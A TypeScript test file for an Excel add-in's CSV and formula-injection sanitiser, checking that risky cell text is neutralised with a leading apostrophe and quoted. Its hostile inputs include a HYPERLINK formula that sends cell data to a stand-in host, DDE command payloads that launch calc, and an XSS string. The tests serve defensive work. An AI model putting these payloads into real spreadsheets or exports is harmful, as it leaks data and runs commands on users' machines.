import { parse } from 'csv-parse/sync'
import { array, assert, constantFrom, oneof, property, string } from 'fast-check'
import { describe, expect, it } from 'vitest'
import { LANGSTE_CELTEKST, isVerdacht, safeCell, safeCsv } from '../../../addin/excel/veilige-tekst.ts'

const VIJANDIG = [
  '=1+1',
  '+31612345678',
  '-2+3',
  '@SUM(A1)',
  '=HYPERLINK("https://kwaad.example?"&A1,"klik")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '|calc',
]

describe('text that could be a formula', () => {
  it.each(VIJANDIG)('%j is put in a cell behind an apostrophe, which makes it text', (tekst) => {
    expect(isVerdacht(tekst)).toBe(true)
    expect(safeCell(tekst)).toBe(`'${tekst}`)
  })

  it.each([
    'Jansen',
    '% hersteld',
    "d'Hondt",
    'A=B',
    '12-3-2026',
    'a@b.nl',
    '<img src=x onerror=alert(1)>',
    '',
    '€ 12,50',
  ])('%j is left as it is', (tekst) => expect(safeCell(tekst)).toBe(tekst))

  it('keeps an apostrophe that the text itself begins with', () => expect(safeCell("'t Hart")).toBe("''t Hart"))

  it('is cut off where a cell ends, and then says so', () => {
    const lang = 'x'.repeat(LANGSTE_CELTEKST + 10)
    expect(safeCell(lang)).toHaveLength(LANGSTE_CELTEKST)
    expect(safeCell(lang).endsWith('…')).toBe(true)
    expect(safeCell('x'.repeat(LANGSTE_CELTEKST))).toBe('x'.repeat(LANGSTE_CELTEKST))
  })
})

describe('a field of a CSV file', () => {
  it.each([
    [null, ''],
    [12.5, '12,5'],
    [-3, '-3'],
    [true, 'WAAR'],
    ['-3', "'-3"],
    ['Jansen; P.', '"Jansen; P."'],
    ['zegt "nee"', '"zegt ""nee"""'],
    ['twee\nregels', '"twee\nregels"'],
  ])('%j is written as %j', (waarde, veld) => expect(safeCsv(waarde)).toBe(veld))

  it.each([
    ['foo,=cmd|calc!A0,bar', `"foo,'=cmd|calc!A0,bar"`],
    ['foo\n=cmd|calc!A0', `"foo\n'=cmd|calc!A0"`],
    ['foo\t@SUM(A1)', `"foo\t'@SUM(A1)"`],
    ['foo,-2+3+cmd|calc!A0', `"foo,'-2+3+cmd|calc!A0"`],
    ['foo, "=1+1"', `"foo, ""'=1+1"""`],
    ['a,+b\t(c)', `"a,'+b\t(c)"`],
    ['a\t-b,c(d)', `"a\t'-b,c(d)"`],
    ['a|+b,c!d', `"a|'+b,c!d"`],
    ['a\n+b\t,c(d)', `"a\n'+b\t,c(d)"`],
    ['a,\t+b\t(c)', `"a,\t'+b\t(c)"`],
    ['100,-', '"100,-"'],
    ['€ 100,- per maand', '"€ 100,- per maand"'],
    ['belt terug, +31 6 12345678', '"belt terug, +31 6 12345678"'],
    ['tussen -1,-2 en 3', '"tussen -1,-2 en 3"'],
  ])('%j is written as %j: no cell of it is a formula where another character separates', (waarde, veld) =>
    expect(safeCsv(waarde)).toBe(veld),
  )

  it('holds no formula, whatever character a program takes to be between its fields', () => {
    const stuk = oneof(constantFrom(...VIJANDIG, ',', '\t', '|', '\n', '"', "'", ' ', 'a'), string({ maxLength: 4 }))
    assert(
      property(array(stuk, { maxLength: 8 }), (stukken) => {
        const veld = safeCsv(stukken.join('')).replace(/^"/, '')
        for (const scheiding of [',', '\t', '|']) {
          const [eerste = '', ...rest] = veld.split(/\r\n|\r|\n/).flatMap((regel) => regel.split(scheiding))
          for (const cel of [eerste, ...rest.map((deel) => deel.replace(/^["\s]*/, ''))])
            expect(cel).not.toMatch(/^\s*(?:[=@＝＠]|[+\-＋－].*[(|!])/u)
        }
      }),
      { numRuns: 2_000 },
    )
  })

  it('reads back as one field with the same text, and never as a formula', () => {
    assert(
      property(oneof(string({ unit: 'grapheme' }), constantFrom(...VIJANDIG)), (tekst) => {
        const [[veld, volgende] = []] = parse(`${safeCsv(tekst)};einde\r\n`, { delimiter: ';', relax_quotes: false })
        expect(volgende).toBe('einde')
        // Apostrophes may have come in front of what could be a formula; nothing else changes and nothing is lost.
        const zonder = (waarde: string) => waarde.replaceAll("'", '')
        expect(zonder(veld ?? '')).toBe(zonder(tekst))
        if (!/[,\t|\r\n]/.test(tekst)) expect(veld).toBe(isVerdacht(tekst) ? `'${tekst}` : tekst)
        expect(isVerdacht(veld ?? '')).toBe(false)
      }),
    )
  })
})
